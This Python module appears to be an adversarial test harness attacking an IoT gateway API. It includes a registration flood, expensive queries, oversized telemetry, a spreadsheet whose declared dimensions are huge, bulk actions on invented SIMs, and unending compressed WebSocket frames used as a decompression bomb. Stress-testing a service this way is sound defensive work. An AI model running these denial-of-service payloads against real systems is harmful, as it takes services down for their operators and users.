"""Attacks on the gateway and what is behind it."""

import asyncio
import base64
import io
import json
import os
import struct
import zipfile
import zlib
from collections import Counter
from datetime import UTC, datetime, timedelta
from functools import cache
from urllib.parse import urlsplit
from uuid import uuid4

from .target import Target, together

DENSE_MESSAGES = 12
"""Of the largest: with less in the store, the dearest questions are cheap."""
SOCKETS, FRAMES = 20, 16
ROW = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'


async def registration_flood(target: Target) -> Counter[str]:
    """Each registration that is let in costs the hash of a password, and an organisation for ever."""
    async with target.http(login=False) as http:
        bodies = [
            {"email": f"{uuid4().hex}@example.com", "password": "correct horse battery"} for _ in range(30)
        ]
        return await together([http.post("/auth/register", json=body) for body in bodies])


async def dear_queries(target: Target) -> Counter[str]:
    """What reads the most for the shortest question, of a device with many wide readings."""
    if target.notes.get("dense", 0) < DENSE_MESSAGES:
        await _store_dense_readings(target)
    now = datetime.now(UTC)
    year = f"from={now - timedelta(days=360):%Y-%m-%dT%H:%M:%SZ}&to={now:%Y-%m-%dT%H:%M:%SZ}"
    month = f"from={now - timedelta(days=29):%Y-%m-%d}&to={now:%Y-%m-%d}"
    device = f"/monitoring/data/{target.device_id}"
    async with target.http() as http:
        return await together(
            [
                http.get(path)
                for path in (
                    f"{device}?interval=1d&agg=avg&{year}",
                    f"{device}?interval=1m&agg=max&{year}",
                    f"{device}?metric=nothing_has_this&{year}",
                    f"/monitoring/data?metric=nothing_has_this&{year}&page_size=1000",
                    "/monitoring/stats",
                    f"/sims/usage?interval=hour&{month}",
                    "/sims?search=9&page=5000&page_size=200",
                    "/devices/?search=a&page=5000&page_size=200",
                )
                for _ in range(3)
            ]
        )


async def _store_dense_readings(target: Target) -> None:
    """As fast as one organisation may; what was stored counts, should the round end before all is."""
    headers = {"Authorization": f"Device {target.device_id}:{target.device_key}"}
    headers |= {"Content-Type": "application/json"}
    async with target.http(login=False) as http:
        while target.notes.get("dense", 0) < DENSE_MESSAGES:
            path = f"/devices/{target.device_id}/telemetry"
            answer = await http.post(path, content=_readings(), headers=headers)
            if answer.status_code == 202:
                target.notes["dense"] = target.notes.get("dense", 0) + 1
            await asyncio.sleep(float(answer.headers.get("Retry-After", 0)))


async def heavy_readings(target: Target) -> Counter[str]:
    """As many readings with as many metrics as one request may carry, with the key of one device."""
    headers = {"Authorization": f"Device {target.device_id}:{target.device_key}"}
    headers |= {"Content-Type": "application/json"}
    async with target.http(login=False) as http:
        path = f"/devices/{target.device_id}/telemetry"
        return await together([http.post(path, content=_readings(), headers=headers) for _ in range(4)])


@cache
def _readings() -> bytes:
    return json.dumps([{"metrics": {f"m{number}": number for number in range(70)}}] * 1000).encode()


async def wide_workbooks(target: Target) -> Counter[str]:
    """Small files that say to be as large as a sheet can be."""
    files = {"file": ("sims.xlsx", _workbook(), "application/octet-stream")}
    async with target.http() as http:
        return await together([http.post("/sims/import?dry_run=true", files=files) for _ in range(4)])


@cache
def _workbook() -> bytes:
    """A sheet of one cell in its last row and column."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
        f'Type="{relation}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {space} xmlns:r="{relation}"><sheets>'
        '<sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
        f'Type="{relation}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet {space}><dimension ref="A1:XFD1048576"/>'
        f"<sheetData>{ROW}</sheetData></worksheet>",
    }
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return content.getvalue()


async def invented_sims(target: Target) -> Counter[str]:
    """A bulk action on SIMs that do not exist."""
    iccids = [f"89882{number:014d}" for number in range(10_000)]
    async with target.http() as http:
        bodies = [{"action": action, "iccids": iccids} for action in ("disable", "enable")]
        return await together([http.post("/sims/bulk", json=body) for body in bodies])


async def unfinished_messages(target: Target) -> Counter[str]:
    """Strangers' WebSockets with a compressed message that never ends."""
    return await together([_unfinished_message(target) for _ in range(SOCKETS)])


async def _unfinished_message(target: Target) -> None:
    place = urlsplit(target.gateway_url)
    reader, writer = await asyncio.open_connection(place.hostname, place.port)
    try:
        writer.write(
            f"GET /ws/monitoring/?EIO=4&transport=websocket HTTP/1.1\r\nHost: {place.netloc}\r\n"
            "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            f"Sec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\n"
            "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n".encode()
        )
        await reader.readuntil(b"\r\n\r\n")
        for frame in _frames():
            writer.write(frame)
            await writer.drain()
        async with asyncio.timeout(3):
            await reader.read()
    finally:
        writer.close()


@cache
def _frames() -> list[bytes]:
    """A compressed text and its continuations, none of them the last, of a megabyte each."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    frames = []
    for number in range(FRAMES):
        part = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_SYNC_FLUSH)
        # The mask of zeros changes nothing.
        frames.append(struct.pack("!BBH", 0 if number else 0x41, 0x80 | 126, len(part)) + bytes(4) + part)
    return frames
